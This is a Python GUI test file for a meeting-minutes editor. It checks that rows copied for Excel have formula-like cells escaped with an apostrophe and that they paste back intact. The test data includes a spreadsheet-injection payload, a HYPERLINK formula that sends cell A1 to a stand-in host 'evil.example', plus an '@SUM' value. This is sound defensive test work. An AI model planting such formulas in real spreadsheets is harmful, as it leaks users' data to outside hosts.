"""Issue 15, case 1 for the clipboard: table rows copied from the editor are tab-separated text that Excel
reads cell by cell as if typed. A name or note from a file received from outside that starts like a formula
arrives in Excel as the words typed (marked with the apostrophe Excel hides), numbers stay numbers, and our
own rows pasted back into the editor are unchanged."""

from __future__ import annotations

import shutil
from pathlib import Path

from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication
from support import COMMUNE_SAMPLE

from minutes_app.storage import load_meeting, save_meeting

CTRL = Qt.KeyboardModifier.ControlModifier
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
HOSTILE_POSITION = "@SUM(1,2)"


def test_rows_copied_for_excel_carry_no_formula_and_paste_back_unchanged(make_window, tmp_path: Path) -> None:  # noqa: ANN001
    path = tmp_path / "m.minutes.json"
    shutil.copy(COMMUNE_SAMPLE, path)
    meeting = load_meeting(path)
    meeting.attendees[0].name = HOSTILE_NAME
    meeting.attendees[0].position = HOSTILE_POSITION
    save_meeting(meeting, path)
    window = make_window(path)
    window.go_to_page(1)
    view = window.pages[1].tables[0]
    view.setFocus()
    view.setCurrentIndex(view.model().index(0, 0))
    QTest.keyClick(view, Qt.Key.Key_End, Qt.KeyboardModifier.ShiftModifier)  # the whole first row
    QTest.keyClick(view, Qt.Key.Key_C, CTRL)
    cells = QApplication.clipboard().text().rstrip("\n").split("\t")
    assert cells[0] == "'" + HOSTILE_NAME and "'" + HOSTILE_POSITION in cells
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@"))], cells

    rows = len(window.document.meeting.attendees)
    view.setCurrentIndex(view.model().index(rows - 1, 0))
    QTest.keyClick(view, Qt.Key.Key_Return)  # Enter on the last row: a new row, its first cell open
    QTest.keyClick(QApplication.focusWidget(), Qt.Key.Key_Escape)
    QTest.keyClick(view, Qt.Key.Key_V, CTRL)
    pasted = window.document.meeting.attendees[rows]
    assert (pasted.name, pasted.position) == (HOSTILE_NAME, HOSTILE_POSITION)


def test_what_is_marked_and_what_is_not() -> None:
    from minutes_app.formulas import as_pasted_text, from_pasted_text

    marked = {"=1+1": "'=1+1", "- ý kiến": "'- ý kiến", "+ cộng": "'+ cộng", "  @x": "'  @x", "'=1": "''=1"}
    kept = ["-2", "+1.234,5", "-12%", "+84 912 345 678", "Nguyễn Văn A", "chú thích"]
    for text, pasted in marked.items():
        assert as_pasted_text(text) == pasted and from_pasted_text(pasted) == text
    for text in kept:
        assert as_pasted_text(text) == text and from_pasted_text(text) == text
